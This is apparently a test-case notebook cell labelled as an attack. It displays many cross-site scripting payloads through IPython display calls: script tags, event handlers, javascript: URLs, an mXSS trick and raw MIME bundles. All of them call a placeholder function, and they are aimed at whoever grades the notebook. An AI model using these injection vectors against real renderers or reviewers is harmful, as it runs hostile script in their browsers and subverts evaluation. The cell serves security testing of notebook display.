# attack: displays scripts in every way that a browser might run, for the grader who looks at it
# expected: describe 3 of 3, first_axis 1 of 1
# cell: before describe
from IPython.display import HTML, SVG, IFrame, Javascript, Latex, Markdown, display

name = "workbook_" + "escape()"
display(HTML(f"<script>{name}</script><img src=x onerror={name}><svg/onload={name}><body onload='{name}'>"))
display(HTML(f'<a href="javascript:{name}">look</a><a href="java\nscript:{name}">look</a>'))
display(HTML(f'<form action="javascript:{name}"><input type=submit formaction="javascript:{name}"></form>'))
display(HTML(f'<iframe srcdoc="&lt;script&gt;{name}&lt;/script&gt;"></iframe><object data="javascript:{name}">'))
display(HTML(f'<style>@import "//{name}";</style><div style="background:url(javascript:{name})">x</div>'))
display(HTML(f'<math><mtext><table><mglyph><style><img src onerror="{name}">'), Javascript(name))
display(Markdown(f"[look](javascript:{name}) <img src=x onerror={name}> <script>{name}</script>"))
display(Latex(f"$\\href{{javascript:{name}}}{{x}}$ <script>{name}</script>"), IFrame(f"javascript:{name}", 9, 9))
display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg"><script>{name}</script><g onload="{name}"/></svg>'))
display({"image/svg+xml": f"<svg onload={name}></svg>", "image/png": f'"><script>{name}</script>'}, raw=True)
display({"application/javascript": name, "application/vnd.jupyter.widget-view+json": {"model_id": name}}, raw=True)
